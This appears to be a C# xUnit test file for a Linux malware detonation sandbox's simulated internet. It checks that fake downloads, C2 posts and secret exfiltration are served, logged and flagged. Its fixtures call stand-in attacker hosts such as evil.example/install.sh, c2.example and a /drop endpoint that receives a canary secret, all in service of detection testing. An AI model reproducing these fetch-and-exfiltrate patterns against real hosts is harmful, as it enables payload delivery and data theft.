using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Wellguard.Events;
using Wellguard.Linux.Detonation.Internet;
using Xunit;

namespace Wellguard.Tests.Linux.Internet;

public sealed class HttpConversationTests
{
    [Fact]
    public async Task A_real_client_gets_a_script_and_it_is_told()
    {
        await using var cell = new Cell();
        using var client = cell.Client();
        client.DefaultRequestHeaders.UserAgent.ParseAdd("curl/8.1");
        client.DefaultRequestHeaders.Authorization = new("Bearer", "x-not-told-x");
        Assert.StartsWith("#!/bin/sh", await client.GetStringAsync("http://evil.example/install.sh?a=1", cell.Soon), StringComparison.Ordinal);
        var all = await cell.EndAsync();
        var request = Assert.Single(all, happened => happened.Kind == EventKind.Request);
        Assert.Equal("http://evil.example/install.sh?a=1", request.Object);
        Assert.Equal(["GET", "User-Agent: curl/8.1", "Authorization: (kept back)"], request.Arguments!);
        var download = Assert.Single(all, happened => happened.Kind == EventKind.Download);
        Assert.Equal(("script", 64), (download.Other, download.Digest!.Length));
    }

    [Fact]
    public async Task Tls_with_the_name_that_the_client_means()
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", 443);
        using var client = cell.Client();
        Assert.Equal(HttpStatusCode.OK, (await client.PostAsync("https://c2.example/api", new StringContent("{}"), cell.Soon)).StatusCode);
        Assert.Equal("https://c2.example/api", Assert.Single(await cell.EndAsync(), happened => happened.Kind == EventKind.Request).Object);
    }

    [Fact]
    public async Task The_users_stage_is_served_in_parts_too()
    {
        await using var cell = new Cell(options => options with { Stages = [new("https://evil.example/stage2", Encoding.ASCII.GetBytes("0123456789"))] });
        cell.To("203.0.113.9", 443);
        using var client = cell.Client();
        Assert.Equal("0123456789", await client.GetStringAsync("https://evil.example/stage2?id=7", cell.Soon));
        using var request = new HttpRequestMessage(HttpMethod.Get, "https://evil.example/stage2") { Headers = { Range = new RangeHeaderValue(7, null) } };
        using var part = await client.SendAsync(request, cell.Soon);
        Assert.Equal((HttpStatusCode.PartialContent, "789"), (part.StatusCode, await part.Content.ReadAsStringAsync(cell.Soon)));
        Assert.All((await cell.EndAsync()).Where(happened => happened.Kind == EventKind.Download), happened => Assert.Equal(("text", 10L), (happened.Other, happened.Size)));
    }

    [Theory]
    [InlineData("-3", "789", 206)]
    [InlineData("2-4", "234", 206)]
    [InlineData("20-", "", 416)]
    [InlineData("4-2", "0123456789", 200)]
    [InlineData("x-", "0123456789", 200)]
    [InlineData("99999999999999999999-", "0123456789", 200)]
    public async Task Ranges(string range, string body, int status)
    {
        await using var cell = new Cell(options => options with { Stages = [new("http://a/s", Encoding.ASCII.GetBytes("0123456789"))] });
        var answer = await cell.AllAsync($"GET /s HTTP/1.1\r\nHost: a\r\nRange: bytes={range}\r\nConnection: close\r\n\r\n");
        Assert.StartsWith($"HTTP/1.1 {status} ", answer, StringComparison.Ordinal);
        Assert.EndsWith("\r\n\r\n" + body, answer, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_body_in_chunks_is_searched_as_one()
    {
        await using var cell = new Cell();
        var (a, b) = (Cell.Secret[..9], Cell.Secret[9..]);
        var answer = await cell.AllAsync($"POST /drop HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n{a.Length:x};x=y\r\n{a}\r\n{b.Length:X}\r\n{b}\r\n0\r\nT: x\r\n\r\n");
        Assert.StartsWith("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n", answer, StringComparison.Ordinal);
        var all = await cell.EndAsync();
        Assert.Equal(Cell.Secret.Length, Assert.Single(all, happened => happened.Kind == EventKind.Request).Size);
        Assert.Equal("http://a.example/drop", Assert.Single(all, happened => happened.Kind == EventKind.Theft).Object);
    }

    [Fact]
    public async Task A_canary_in_the_address_is_found_and_not_told()
    {
        await using var cell = new Cell();
        await cell.AllAsync($"GET /?t={Uri.EscapeDataString(Cell.Secret)}&u={Cell.Secret} HTTP/1.1\r\nHost: a.example\r\nX: {Convert.ToHexString(Encoding.ASCII.GetBytes(Cell.Secret))}\r\nConnection: close\r\n\r\n");
        var all = await cell.EndAsync();
        Assert.Equal("http://a.example/?t=[token]&u=[token]", Assert.Single(all, happened => happened.Kind == EventKind.Request).Object);
        Assert.Equal(["hex", "percent", "plain"], Assert.Single(all, happened => happened.Kind == EventKind.Theft).Arguments!);
    }

    [Fact]
    public async Task A_proxy_is_one_too()
    {
        await using var cell = new Cell();
        using var client = cell.Client(new WebProxy("http://proxy.example:3128"));
        _ = await client.GetStringAsync("http://plain.example/a.txt", cell.Soon);
        _ = await client.GetStringAsync("https://secret.example/b.txt", cell.Soon);
        var asked = (await cell.EndAsync()).Where(happened => happened.Kind == EventKind.Request).Select(happened => happened.Object).ToList();
        Assert.Contains("http://plain.example/a.txt", asked);
        Assert.Contains("https://secret.example/b.txt", asked);
    }

    [Theory]
    [InlineData("/x.elf", "*/*", "elf")]
    [InlineData("/x-linux-arm64", "*/*", "elf")]
    [InlineData("/a.tar.gz", "*/*", "archive")]
    [InlineData("/a.zip", "*/*", "archive")]
    [InlineData("/a.py", "*/*", "script")]
    [InlineData("/a.png", "*/*", "image")]
    [InlineData("/data", "application/json", "json")]
    [InlineData("/", "text/html", "text")]
    [InlineData("/", "*/*", "script")]
    public async Task What_is_served_is_what_was_asked_for(string path, string accept, string kind)
    {
        await using var cell = new Cell();
        await cell.AllAsync($"GET {path} HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8\r\nAccept: {accept}\r\nConnection: close\r\n\r\n");
        Assert.Equal(kind, Assert.Single(await cell.EndAsync(), happened => happened.Kind == EventKind.Download).Other);
    }

    [Fact]
    public async Task Head_has_no_body_and_is_no_download()
    {
        await using var cell = new Cell();
        var answer = await cell.AllAsync("HEAD /a.sh HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
        Assert.EndsWith("\r\n\r\n", answer, StringComparison.Ordinal);
        Assert.DoesNotContain("Content-Length: 0", answer, StringComparison.Ordinal);
        Assert.DoesNotContain(await cell.EndAsync(), happened => happened.Kind == EventKind.Download);
    }

    [Theory]
    [InlineData("GET / HTTP/3.0\r\n\r\n")]
    [InlineData("GET  / HTTP/1.1\r\n\r\n")]
    [InlineData("GET / HTTP/1.1\r\nno header\r\n\r\n")]
    [InlineData("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n")]
    [InlineData("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n")]
    [InlineData("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nabcd\r\n")]
    [InlineData("CONNECT nowhere HTTP/1.1\r\n\r\n")]
    public async Task What_is_not_HTTP_is_refused(string request)
    {
        await using var cell = new Cell();
        Assert.StartsWith("HTTP/1.1 400 ", await cell.AllAsync(request), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Heads_without_end_are_refused()
    {
        await using var cell = new Cell();
        Assert.StartsWith("HTTP/1.1 400 ", await cell.AllAsync($"GET /{new string('a', 17_000)} HTTP/1.1\r\n"), StringComparison.Ordinal);
        Assert.StartsWith("HTTP/1.1 400 ", await cell.AllAsync("GET / HTTP/1.1\r\n" + string.Concat(Enumerable.Repeat("A: b\r\n", 201))), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_head_that_trickles_is_cut()
    {
        await using var cell = new Cell(options => options with { Limits = new() { Head = TimeSpan.FromMilliseconds(400) } });
        await using var stream = await cell.ConnectAsync();
        await stream.WriteAsync("GET /slow HTT"u8.ToArray(), cell.Soon);
        Assert.Equal(0, await stream.ReadAsync(new byte[1], cell.Soon));
        Assert.Contains((await cell.EndAsync()).Single(happened => happened.Kind == EventKind.Send).Arguments!, said => said.Contains("not whole in time", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_body_over_the_limit_is_refused_and_counted()
    {
        await using var cell = new Cell(options => options with { Limits = new() { Body = 50_000 } });
        await using var stream = await cell.ConnectAsync();
        await cell.TalkAsync(stream, "POST /big HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000000\r\n\r\n" + new string('x', 60_000), "413");
        Assert.Equal(50_000, Assert.Single(await cell.EndAsync(), happened => happened.Kind == EventKind.Request).Size);
    }

    [Fact]
    public async Task Names_are_resolved_over_HTTPS_too()
    {
        await using var cell = new Cell();
        cell.To("203.0.113.9", 443);
        using var client = cell.Client();
        using var answer = JsonDocument.Parse(await client.GetStringAsync("https://dns.example/resolve?name=hidden.example&type=A", cell.Soon));
        var address = answer.RootElement.GetProperty("Answer")[0].GetProperty("data").GetString()!;
        Assert.Equal("hidden.example", cell.Internet.NameOf(IPAddress.Parse(address)));
        Assert.Contains(await cell.EndAsync(), happened => happened.Kind == EventKind.Resolve && happened.Object == "hidden.example");
    }
}
